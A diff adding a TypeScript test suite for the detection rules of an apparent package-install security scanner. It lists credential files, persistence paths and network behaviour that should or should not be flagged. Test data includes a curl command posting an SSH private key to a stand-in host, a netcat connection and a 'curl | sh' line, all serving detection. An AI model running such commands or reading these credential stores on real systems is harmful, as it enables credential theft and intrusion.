@@ -1,0 +1,269 @@
+import { describe, expect, test } from "bun:test";
+import { compileRules } from "../../src/match/matcher.ts";
+import type { Finding } from "../../src/report/findings.ts";
+import { loadBuiltinRulePacks } from "../../src/rules/builtin.ts";
+import {
+  HOME, type Scenario, bind, builtinRules, connect, connectUnix, exec, mkdir, open, rename, scan, stat,
+} from "../match/pipeline.ts";
+
+interface Case {
+  name: string;
+  lines: string[];
+  scenario?: Scenario;
+}
+
+interface RuleCases {
+  positive: Case[];
+  negative: Case[];
+}
+
+const WRITE = "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC";
+const pip = { package: undefined, phase: "fetch" } as const;
+
+const CASES: Record<string, RuleCases> = {
+  ssh: {
+    positive: [
+      { name: "reads a private key", lines: [open("~/.ssh/id_rsa")] },
+      { name: "probes a key that does not exist", lines: [open("~/.ssh/id_ed25519", { errno: "ENOENT" })] },
+      { name: "lists the directory", lines: [open("~/.ssh", { flags: "O_RDONLY|O_DIRECTORY" })] },
+      { name: "reads through a symlink", lines: [open("/tmp/innocent", { resolved: "~/.ssh/id_rsa" })] },
+      { name: "asks for the key even if the fd resolves elsewhere", lines: [open("~/.ssh/id_rsa", { resolved: "/decoy-store/id_rsa" })] },
+      { name: "steals it in pip's own process too", lines: [open("~/.ssh/id_rsa")], scenario: pip },
+    ],
+    negative: [
+      { name: "stats the home directory", lines: [stat("~")] },
+      { name: "opens a look-alike name", lines: [open("~/.sshrc-notes"), open("/work/pkg/.ssh/id_rsa")] },
+    ],
+  },
+  "git-credentials": {
+    positive: [{ name: "reads the store", lines: [open("~/.git-credentials"), open("~/.config/git/credentials")] }],
+    negative: [{ name: "git reads its config", lines: [open("~/.gitconfig"), open("~/.config/git/config")] }],
+  },
+  aws: {
+    positive: [{ name: "reads credentials", lines: [open("~/.aws/credentials")] }],
+    negative: [{ name: "similar name", lines: [open("~/.awsome/config")] }],
+  },
+  gcloud: {
+    positive: [{ name: "reads ADC", lines: [open("~/.config/gcloud/application_default_credentials.json")] }],
+    negative: [{ name: "stats ~/.config", lines: [stat("~/.config"), open("~/.config/gcloud-tools.txt")] }],
+  },
+  azure: {
+    positive: [{ name: "reads tokens", lines: [open("~/.azure/msal_token_cache.json")] }],
+    negative: [{ name: "unrelated", lines: [open("~/.config/azure-notes")] }],
+  },
+  npm: {
+    positive: [{ name: "reads npmrc", lines: [open("~/.npmrc")] }],
+    negative: [{ name: "project npmrc", lines: [open("/work/pkg/.npmrc")] }],
+  },
+  pypirc: {
+    positive: [{ name: "reads pypirc", lines: [stat("~/.pypirc", "ENOENT")] }],
+    negative: [{ name: "project pypirc", lines: [open("/work/pkg/.pypirc")] }],
+  },
+  netrc: {
+    positive: [
+      { name: "import code reads it", lines: [open("~/.netrc")] },
+      { name: "an sdist build in the fetch phase reads it", lines: [open("~/.netrc")], scenario: { phase: "fetch", package: "evilpkg" } },
+    ],
+    negative: [{ name: "pip reads it for index credentials", lines: [open("~/.netrc")], scenario: pip }],
+  },
+  kube: {
+    positive: [{ name: "reads kubeconfig", lines: [open("~/.kube/config")] }],
+    negative: [{ name: "a cache dir", lines: [open("~/.cache/kube-helper/x")] }],
+  },
+  "docker-config": {
+    positive: [{ name: "reads config.json", lines: [open("~/.docker/config.json")] }],
+    negative: [{ name: "buildx state", lines: [open("~/.docker/buildx/current")] }],
+  },
+  gnupg: {
+    positive: [{ name: "reads a private key", lines: [open("~/.gnupg/private-keys-v1.d/AB.key")] }],
+    negative: [{ name: "system keyrings", lines: [open("/usr/share/keyrings/debian-archive-keyring.gpg")] }],
+  },
+  "dev-tokens": {
+    positive: [{ name: "GitHub CLI token", lines: [open("~/.config/gh/hosts.yml")] }, { name: "vault", lines: [open("~/.vault-token")] }],
+    negative: [{ name: "gh settings", lines: [open("~/.config/gh/config.yml")] }],
+  },
+  "browser-profile": {
+    positive: [
+      { name: "firefox logins", lines: [open("~/.mozilla/firefox/x.default/logins.json")] },
+      { name: "chrome cookies", lines: [open("~/.config/google-chrome/Default/Cookies")] },
+      { name: "brave", lines: [open("~/.config/BraveSoftware/Brave-Browser/Default/Login Data")] },
+    ],
+    negative: [{ name: "system chromium", lines: [open("/usr/lib/chromium/chrome")] }],
+  },
+  "crypto-wallet": {
+    positive: [
+      { name: "electrum", lines: [open("~/.electrum/wallets/default_wallet")] },
+      { name: "bitcoin", lines: [open("~/.bitcoin/wallet.dat")] },
+      { name: "exodus", lines: [open("~/.config/Exodus/exodus.wallet/seed.seco")] },
+    ],
+    negative: [{ name: "docs", lines: [open("/usr/share/doc/bitcoin/README")] }],
+  },
+  "shell-history": {
+    positive: [{ name: "reads bash history", lines: [open("~/.bash_history")] }],
+    negative: [{ name: "reads bashrc", lines: [open("~/.bashrc")] }],
+  },
+  "proc-probe": {
+    positive: [
+      { name: "init's environment", lines: [open("/proc/1/environ", { errno: "EACCES" })] },
+      { name: "init's cgroup", lines: [open("/proc/1/cgroup")] },
+      { name: "own environment through /proc/self", lines: [open("/proc/self/environ", { resolved: "/proc/4242/environ" })] },
+      { name: "failed /proc/self/environ", lines: [stat("/proc/self/environ", "ENOENT")] },
+    ],
+    negative: [
+      { name: "python's own /proc reads", lines: [`100 readlink("/proc/self/exe", "/usr/bin/python3.11", 4096) = 19`, open("/proc/self/maps", { resolved: "/proc/4242/maps" }), open("/proc/cpuinfo"), open("/proc/10/stat")] },
+      { name: "cpu count", lines: [open("/sys/devices/system/cpu/online")] },
+    ],
+  },
+  shadow: {
+    positive: [{ name: "reads /etc/shadow", lines: [open("/etc/shadow", { errno: "EACCES" })] }, { name: "gshadow", lines: [stat("/etc/gshadow")] }],
+    negative: [{ name: "getpass reads /etc/passwd", lines: [open("/etc/passwd")] }],
+  },
+  persistence: {
+    positive: [
+      { name: "appends to .bashrc", lines: [open("~/.bashrc", { flags: WRITE })] },
+      { name: "renames into autostart", lines: [rename("/tmp/x", "~/.config/autostart/evil.desktop")] },
+      { name: "creates a cron job", lines: [open("/etc/cron.d/evil", { flags: "O_WRONLY|O_CREAT|O_TRUNC", errno: "EACCES" })] },
+      { name: "creates a systemd user unit dir", lines: [mkdir("~/.config/systemd/user")] },
+      { name: "touches .profile through an fd", lines: [`100 utimensat(3<${HOME}/.profile>, NULL, NULL, 0) = 0`] },
+      { name: "drops a .pth in the user site", lines: [open("~/.local/lib/python3.11/site-packages/evil.pth", { flags: "O_WRONLY|O_CREAT|O_TRUNC" })] },
+      { name: "rewrites pip's config", lines: [open("~/.config/pip/pip.conf", { flags: "O_WRONLY|O_CREAT|O_TRUNC" })] },
+    ],
+    negative: [
+      { name: "reads .bashrc", lines: [open("~/.bashrc")] },
+      { name: "writes its own cache", lines: [mkdir("~/.cache/evilpkg"), open("~/.cache/evilpkg/data.json", { flags: "O_WRONLY|O_CREAT|O_TRUNC" })] },
+      { name: "writes to temp and the venv", lines: [open("/tmp/build/x.o", { flags: WRITE }), open("/work/venv/lib/python3.11/site-packages/x.py", { flags: WRITE })] },
+      { name: "python stats the user site", lines: [stat("~/.local/lib/python3.11/site-packages", "ENOENT")] },
+    ],
+  },
+  network: {
+    positive: [
+      { name: "connects to 127.0.0.9:4444", lines: [connect("127.0.0.9", 4444)] },
+      { name: "connects over IPv6", lines: [connect("::1", 4444)] },
+      { name: "sends a UDP datagram", lines: [connect("8.8.8.8", 53, "sendto")] },
+      { name: "from an sdist build during fetch", lines: [connect("10.1.2.3", 443)], scenario: { phase: "fetch", package: "evilpkg" } },
+    ],
+    negative: [
+      { name: "pip's own download connection", lines: [connect("127.0.0.1", 8080)], scenario: pip },
+      { name: "nscd lookup over a unix socket", lines: [connectUnix("/var/run/nscd/socket")] },
+      { name: "urllib3's IPv6 probe binds ::1 port 0", lines: [bind("::1", 0)] },
+    ],
+  },
+  "container-socket": {
+    positive: [{ name: "docker socket", lines: [connectUnix("/var/run/docker.sock")] }],
+    negative: [{ name: "nscd", lines: [connectUnix("/var/run/nscd/socket")] }],
+  },
+  "ssh-agent": {
+    positive: [{ name: "agent socket", lines: [connectUnix("/tmp/ssh-XXXXabcd/agent.1234")] }],
+    negative: [{ name: "other unix socket", lines: [connectUnix("/tmp/pipcanary-proxy.sock")] }],
+  },
+  "network-tool": {
+    positive: [
+      { name: "curl", lines: [exec("/usr/bin/curl", ["curl", "-d", "@/home/tester/.ssh/id_rsa", "http://127.0.0.9:4444"])] },
+      { name: "netcat by argv[0]", lines: [exec("/usr/bin/nc.openbsd", ["nc", "127.0.0.9", "4444"])] },
+      { name: "a failed PATH lookup still shows intent", lines: [exec("/usr/local/bin/wget", ["wget", "http://x"], "-1 ENOENT (No such file or directory)")] },
+    ],
+    negative: [
+      {
+        name: "benign tools",
+        lines: [
+          exec("/usr/bin/uname", ["uname", "-p"]),
+          exec("/sbin/ldconfig", ["/sbin/ldconfig", "-p"]),
+          exec("/usr/bin/gcc", ["gcc", "-c", "x.c"]),
+          exec("/usr/bin/python3", ["python3", "setup.py", "egg_info"]),
+          exec("/usr/bin/lsb_release", ["lsb_release", "-a"]),
+          exec("/usr/bin/file", ["file", "-b", "/usr/bin/python3"]),
+          exec("/usr/bin/git", ["git", "describe", "--tags"]),
+        ],
+      },
+      { name: "pip's own process", lines: [exec("/usr/bin/curl", ["curl", "--version"])], scenario: pip },
+    ],
+  },
+  "shell-command": {
+    positive: [
+      { name: "subprocess shell=True", lines: [exec("/bin/sh", ["/bin/sh", "-c", "echo hi"])] },
+      { name: "os.system", lines: [exec("/bin/sh", ["sh", "-c", "--", "id"])] },
+      { name: "bash -ec", lines: [exec("/usr/bin/bash", ["bash", "-ec", "true"])] },
+      { name: "options before -c", lines: [exec("/usr/bin/bash", ["bash", "--norc", "-x", "-c", "id"])] },
+    ],
+    negative: [
+      { name: "running a script", lines: [exec("/bin/sh", ["sh", "./configure"])] },
+      { name: "a script that receives -c", lines: [exec("/usr/bin/bash", ["bash", "/root/.pyenv/libexec/pyenv-exec", "python3", "-c", "print(1)"])] },
+      { name: "no shell", lines: [exec("/usr/bin/uname", ["uname", "-c", "x"])] },
+    ],
+  },
+};
+
+const ids = (findings: Finding[]): string[] => [...new Set(findings.map((f) => f.ruleId))];
+
+describe("built-in rule packs", () => {
+  test("load, use api ^1.0.0 and hold only dynamic rules for now", () => {
+    const packs = loadBuiltinRulePacks();
+    expect(packs.length).toBeGreaterThanOrEqual(5);
+    for (const pack of packs) expect(pack.api).toBe("^1.0.0");
+  });
+
+  test("the SSH rule keeps the seed's wording", () => {
+    const ssh = builtinRules().find((rule) => rule.id === "ssh");
+    expect(ssh?.description).toBe("SSH private key exfiltration.");
+    expect(ssh?.explanation).toBe("The package might be trying to steal your Secure Shell private keys.");
+    expect(ssh?.severity).toBe("block");
+  });
+
+  test("every built-in rule has positive and negative cases here", () => {
+    for (const rule of builtinRules()) {
+      expect({ rule: rule.id, positive: (CASES[rule.id]?.positive.length ?? 0) > 0, negative: (CASES[rule.id]?.negative.length ?? 0) > 0 })
+        .toEqual({ rule: rule.id, positive: true, negative: true });
+    }
+  });
+
+  for (const [ruleId, cases] of Object.entries(CASES)) {
+    describe(ruleId, () => {
+      for (const c of cases.positive) {
+        test(`flags: ${c.name}`, () => {
+          const findings = scan(c.lines, c.scenario);
+          expect(ids(findings)).toContain(ruleId);
+        });
+      }
+      for (const c of cases.negative) {
+        test(`passes: ${c.name}`, () => {
+          expect(ids(scan(c.lines, c.scenario))).not.toContain(ruleId);
+        });
+      }
+    });
+  }
+
+  test("a finding names the package, phase, syscall, path and argv", () => {
+    const [finding] = scan([open("~/.ssh/id_rsa")], { phase: "install", package: "evilpkg" });
+    expect(finding).toMatchObject({
+      ruleId: "ssh",
+      severity: "block",
+      package: "evilpkg",
+      phase: "install",
+      syscall: "openat",
+      subject: { kind: "access", path: `${HOME}/.ssh/id_rsa` },
+      argv: ["python3", "-c", "import evilpkg"],
+    });
+  });
+
+  test("connection and execution findings carry address and argv", () => {
+    expect(scan([connect("127.0.0.9", 4444)])[0]?.subject).toEqual({ kind: "connection", address: "127.0.0.9", port: 4444 });
+    const shell = scan([exec("/bin/sh", ["sh", "-c", "curl x | sh"])]);
+    expect(shell[0]?.subject).toEqual({ kind: "execution", argv: ["sh", "-c", "curl x | sh"] });
+  });
+
+  test("findings do not depend on the order of the rules", () => {
+    const lines = Object.values(CASES).flatMap((cases) => [...cases.positive, ...cases.negative].flatMap((c) => c.lines));
+    const rules = builtinRules();
+    const reference = JSON.stringify(scan(lines, {}, compileRules(rules, { home: HOME })));
+    let seed = 7;
+    const random = (): number => {
+      seed = (seed * 1103515245 + 12345) % 2147483648;
+      return seed / 2147483648;
+    };
+    for (let round = 0; round < 5; round++) {
+      const shuffled = [...rules].sort(() => random() - 0.5);
+      expect(JSON.stringify(scan(lines, {}, compileRules(shuffled, { home: HOME })))).toBe(reference);
+    }
+    expect(JSON.parse(reference).length).toBeGreaterThan(20);
+  });
+});
